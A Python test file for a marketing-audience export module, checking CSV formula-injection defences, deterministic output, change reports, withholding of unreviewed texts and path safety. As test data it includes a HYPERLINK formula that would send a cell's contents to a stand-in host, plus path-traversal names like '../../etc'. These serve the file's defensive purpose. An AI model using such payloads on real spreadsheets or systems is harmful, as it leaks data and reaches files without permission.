"""The exported files: safe in spreadsheets, the same twice, and honest about what changed."""

from __future__ import annotations

import csv
import json
from datetime import date
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestration.audiences.export import COLUMNS, FOLDER, csv_text, file_stem, safe_cell, unread, write_export

AS_OF = date(2026, 3, 31)


def candidate(folder: Path, audiences: list[tuple[str, str, str]], message: str = "Hello") -> Path:
    """A candidate's database with the tables that the export reads; `audiences` are (channel, member, treatment)."""
    folder.mkdir(parents=True)
    with duckdb.connect(str(folder / "segments.duckdb")) as con:
        con.execute(
            "create table audiences (channel varchar, member_id varchar, treatment_id varchar, scheme varchar,"
            " segment varchar, message varchar, offer varchar, offer_item varchar, evidence varchar, send_on date,"
            " priority integer, reason varchar)"
        )
        for channel, member, treatment in audiences:
            row = [channel, member, treatment, "rfm", "best", message, None, "SAND", None, AS_OF, 1, "why"]
            con.execute("insert into audiences values (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)", row)
        con.execute("create table audience_decisions as select 'holdout' as outcome from range(3)")
        con.executemany("insert into audience_decisions values (?)", [["sent"]] * len(audiences) or [["no consent"]])
        con.execute("create table customer_segments as select ?::date as as_of", [AS_OF])
    return folder


def files(version: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in sorted((version / FOLDER).iterdir())}


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n '\"|,;%0a＝＠\u00a0\ufeff"), max_size=8))
def test_no_cell_starts_a_formula_and_nothing_is_lost(text: str) -> None:
    (header, cell) = csv.reader(csv_text(("message",), [(text,)]).splitlines(keepends=True))
    assert header == ["message"]
    assert not cell[0].startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))
    assert not cell[0].strip("\x00\ufeff \u00a0\t\r\n").startswith(("=", "+", "-", "@"))
    assert cell[0] in (text, f"'{text}")


@pytest.mark.parametrize("harmless", ["10-20 % off", "a=b", "you@home", "It's 5 + 5", ""])
def test_a_text_that_no_spreadsheet_runs_is_left_as_it_is(harmless: str) -> None:
    assert safe_cell(harmless) == harmless


def test_a_formula_in_a_marketers_message_is_disarmed_in_csv_and_kept_in_parquet(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://x.example/?"&A1,"Win")'
    version = candidate(tmp_path / "v1", [("mail", "-7", "t")], message=formula)
    write_export(version, None, is_demo=False)
    (row,) = rows(version / FOLDER / "mail.csv")
    assert (row["message"], row["member_id"]) == (f"'{formula}", "'-7")
    (kept,) = pq.read_table(version / FOLDER / "mail.parquet").to_pylist()
    assert (kept["message"], kept["member_id"]) == (formula, "-7")


def test_each_channel_has_its_own_files_with_all_columns(tmp_path: Path) -> None:
    version = candidate(tmp_path / "v1", [("sms", "b", "t"), ("mail", "a", "t"), ("mail", "c", "t")])
    export = write_export(version, None, is_demo=False)
    assert export.sent == {"mail": 2, "sms": 1}
    assert export.dropped == {"holdout": 3}
    assert [row["member_id"] for row in rows(version / FOLDER / "mail.csv")] == ["a", "c"]
    assert [row["member_id"] for row in rows(version / FOLDER / "sms.csv")] == ["b"]
    assert list(rows(version / FOLDER / "sms.csv")[0]) == list(COLUMNS)


def test_the_same_audiences_make_the_same_bytes_whatever_the_order_of_rows(tmp_path: Path) -> None:
    audiences = [("mail", "a", "t"), ("mail", "b", "t"), ("sms", "c", "u")]
    first, second = candidate(tmp_path / "v1", audiences), candidate(tmp_path / "v2", audiences[::-1])
    write_export(first, None, is_demo=False)
    write_export(second, None, is_demo=False)
    assert files(first) == files(second)
    write_export(second, None, is_demo=False)
    assert files(first) == files(second)


def test_the_difference_names_who_came_and_who_went_since_the_last_export(tmp_path: Path) -> None:
    before = candidate(tmp_path / "v1", [("mail", "a", "t"), ("mail", "b", "t")])
    write_export(before, None, is_demo=False)
    after = candidate(tmp_path / "v2", [("mail", "b", "t"), ("sms", "a", "t")])
    export = write_export(after, before, is_demo=False)
    assert (export.added, export.removed) == (1, 1)
    changes = [(r["change"], r["channel"], r["member_id"]) for r in rows(after / FOLDER / "difference.csv")]
    assert changes == [("added", "sms", "a"), ("removed", "mail", "a")]
    assert json.loads((after / FOLDER / "summary.json").read_text())["compared_with"] == "v1"


def test_repeating_an_export_reports_no_difference(tmp_path: Path) -> None:
    before = candidate(tmp_path / "v1", [("mail", "a", "t")])
    write_export(before, None, is_demo=False)
    again = candidate(tmp_path / "v2", [("mail", "a", "t")])
    export = write_export(again, before, is_demo=False)
    assert (export.added, export.removed) == (0, 0)
    assert rows(again / FOLDER / "difference.csv") == []


def test_texts_that_nobody_has_read_are_not_exported_and_it_is_said_how_they_are(tmp_path: Path) -> None:
    before = candidate(tmp_path / "v1", [("mail", "a", "t")])
    write_export(before, None, is_demo=False)
    version = candidate(tmp_path / "v2", [("mail", "a", "t"), ("sms", "b", "t")])
    (version / FOLDER).mkdir()
    (version / FOLDER / "mail.csv").write_text("left over\n")
    export = write_export(version, before, is_demo=False, is_reviewed=False)
    assert (export.rows, export.withheld, export.sent) == (0, 2, {})
    assert sorted(files(version)) == ["difference.csv", "summary.json"]
    summary = json.loads((version / FOLDER / "summary.json").read_text())
    assert (summary["sent"], summary["withheld"]) == (0, 2)
    assert summary["why_withheld"] == unread(2, AS_OF)
    for part in (
        "2 rows are not exported",
        "reviewed_treatments.csv of SEEDS_DIR",
        "reviewed_by,reviewed_on",
        "2026-03-31",
    ):
        assert part in unread(2, AS_OF)
    # Read, they are all there.
    assert write_export(version, before, is_demo=False).sent == {"mail": 1, "sms": 1}


def test_nobody_to_address_is_an_export_too(tmp_path: Path) -> None:
    before = candidate(tmp_path / "v1", [("mail", "a", "t")])
    write_export(before, None, is_demo=False)
    empty = candidate(tmp_path / "v2", [])
    export = write_export(empty, before, is_demo=False)
    assert (export.rows, export.added, export.removed) == (0, 0, 1)
    assert sorted(files(empty)) == ["difference.csv", "summary.json"]


def test_a_channel_that_no_longer_has_rows_leaves_no_old_file(tmp_path: Path) -> None:
    version = candidate(tmp_path / "v1", [("mail", "a", "t"), ("sms", "b", "t")])
    write_export(version, None, is_demo=False)
    with duckdb.connect(str(version / "segments.duckdb")) as con:
        con.execute("delete from audiences where channel = 'sms'")
    write_export(version, None, is_demo=False)
    assert sorted(files(version)) == ["difference.csv", "mail.csv", "mail.parquet", "summary.json"]


@pytest.mark.parametrize("channel", ["../../etc", "a/b", "", ".", "difference", "mail\n", "Ä"])
def test_a_channel_cannot_name_a_file_elsewhere(channel: str) -> None:
    assert file_stem(channel).startswith("channel_") and "/" not in file_stem(channel)
